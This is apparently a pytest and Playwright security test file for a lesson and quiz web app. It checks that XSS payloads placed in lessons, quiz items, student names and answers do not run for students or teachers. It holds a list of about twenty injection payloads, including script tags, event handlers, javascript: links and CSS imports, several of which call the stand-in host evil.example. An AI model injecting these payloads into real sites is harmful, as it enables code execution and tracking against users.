"""Lessons and names that try to run as code in a student's or a teacher's browser."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from bench.live import Live, Visitor

ATTACKS = (
    "<script>window.ran = 1</script>",
    '<script src="http://evil.example/x.js"></script>',
    '<img src=x onerror="window.ran = 1">',
    '<img src="http://evil.example/spy.png">',
    "<svg onload='window.ran = 1'><script>window.ran = 1</script></svg>",
    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    '<a href="javascript:window.ran=1" class="try">press</a>',
    "[press](javascript:window.ran=1)",
    "[press](<java\tscript:window.ran=1>)",
    "[press](data:text/html,<script>window.ran=1</script>)",
    "![spy](http://evil.example/spy.png)",
    '<details open ontoggle="window.ran = 1"><summary>x</summary></details>',
    '<input autofocus onfocus="window.ran = 1">',
    '<form action="http://evil.example/"><button>press</button></form>',
    '<style>@import "http://evil.example/x.css";</style>',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0; url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<p style="background: url(http://evil.example/x.png)">x</p>',
    "<math><mtext><script>window.ran = 1</script></mtext></math>",
)
NAME = "<img src=x onerror=window.ran=1>"


HEAD = f"""---
title: '{NAME}'
objectives:
  - '{NAME}'
terms:
  '{NAME}': '{NAME}'
---

"""


def refused_lesson() -> str:
    """Every attack as it is, in prose, questions, options and feedback."""
    prose = "\n\n".join(ATTACKS)
    items = "\n\n".join(
        f"### Stem {number} {attack} {{#i{number}}}\n\n- (x) right {attack}\n    > {attack}\n"
        f"- ( ) wrong {attack}\n    > {attack}\n\nwhy: {attack}"
        for number, attack in enumerate(ATTACKS)
    )
    return f"{HEAD}{prose}\n\n## Quiz: Refused {{#refused-quiz}}\n\n{items}\n"


def accepted_lesson() -> str:
    """The attacks as the format takes them: as code to be shown."""
    shown = [f"`{attack}`" for attack in ATTACKS]
    prose = "\n\n".join(shown)
    items = "\n\n".join(
        f"### Stem {text} {{#i{number}}}\n\n= yes\nelse= {{M1}}\n    > {text}\n\nwhy: {text}"
        for number, text in enumerate(shown, start=100)
    )
    return f"{HEAD}{prose}\n\n## Quiz: Accepted {{#quiz}}\n\n{items}\n"


@pytest.fixture(scope="module")
def live(serve: Callable[..., Live], tmp_path_factory: pytest.TempPathFactory) -> Live:
    folder: Path = tmp_path_factory.mktemp("hostile")
    (folder / "refused.md").write_text(refused_lesson(), encoding="utf-8")
    (folder / "accepted.md").write_text(accepted_lesson(), encoding="utf-8")
    return serve(folder)


@pytest.fixture(scope="module")
def attempts(live: Live, by_http: Callable[[int], Visitor]) -> dict[str, Visitor]:
    """Attempts with every attack as an answer too: one in progress, one handed in."""
    made = {}
    for hand_in in (False, True):
        student = by_http(live.port)
        student.join(NAME)
        attempt = student.start("accepted", "quiz")
        for number, attack in enumerate(ATTACKS, start=100):
            student.save(attempt, f"i{number}", {"text": attack + "!"}, 0)
        if hand_in:
            student.post(f"{attempt}/submit", {})
        made[attempt] = student
    return made


def visit(page: Page, paths: list[str], origin: str) -> list[str]:
    """Open pages, and list what should not have happened."""
    wrong: list[str] = []
    page.on("dialog", lambda dialog: (wrong.append(dialog.message), dialog.dismiss()))
    page.on(
        "request",
        lambda request: (
            wrong.append(request.url)
            if urlsplit(request.url).scheme in ("http", "https")
            and f"http://{urlsplit(request.url).netloc}" != origin
            else None
        ),
    )
    for path in paths:
        page.goto(f"{origin}{path}")
        if page.evaluate("window.ran"):
            wrong.append(f"code ran on {path}")
    return wrong


def test_nothing_of_a_hostile_lesson_runs_for_students(
    live: Live, attempts: dict[str, Visitor], context: BrowserContext
) -> None:
    origin = f"http://quiz.lan:{live.port}"
    quiz = "/lessons/accepted/quizzes/quiz"
    (begun, student), (handed_in, other) = attempts.items()
    put_cookies(context, student, origin)
    paths = ["/", "/lessons/refused", "/lessons/accepted", quiz, begun, f"{begun}/summary"]
    page = context.new_page()
    assert visit(page, paths, origin) == []
    put_cookies(context, other, origin)
    assert visit(page, [f"{handed_in}/review"], origin) == []
    # It is there, as words.
    expect(page.get_by_text(ATTACKS[0]).first).to_be_visible()


def test_nothing_of_it_runs_for_the_teacher(
    live: Live,
    attempts: dict[str, Visitor],
    by_http: Callable[[int], Visitor],
    context: BrowserContext,
) -> None:
    teacher = by_http(live.port)
    teacher.get(live.way_in())
    origin = f"http://127.0.0.1:{live.port}"
    put_cookies(context, teacher, origin)
    paths = ["/instructor/", "/instructor/lessons/refused", "/instructor/lessons/accepted"]
    paths += [f"/instructor{attempt}" for attempt in attempts]
    page = context.new_page()
    assert visit(page, paths, origin) == []
    expect(page.get_by_text(ATTACKS[0]).first).to_be_visible()


def test_the_policy_holds_where_the_cleaning_would_fail(live: Live, page: Page) -> None:
    """Put the attacks into a page as they are: the browser itself must refuse to run them."""
    origin = f"http://quiz.lan:{live.port}"
    wrong: list[str] = []
    page.on("requestfinished", lambda r: wrong.append(r.url) if origin not in r.url else None)
    page.goto(f"{origin}/join")
    # No policy stops a refresh, so that one is for the cleaning alone.
    for attack in (attack for attack in ATTACKS if "refresh" not in attack):
        page.evaluate(
            "html => document.querySelector('main')"
            ".append(document.createRange().createContextualFragment(html))",
            attack,
        )
    for link in page.locator("a.try").all():
        link.click(no_wait_after=True)
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.ran") is None
    assert [url for url in wrong if not url.startswith(("data:", "about:"))] == []


def put_cookies(context: BrowserContext, visitor: Visitor, origin: str) -> None:
    context.clear_cookies()
    context.add_cookies(
        [{"name": name, "value": value, "url": origin} for name, value in visitor.cookies.items()]
    )
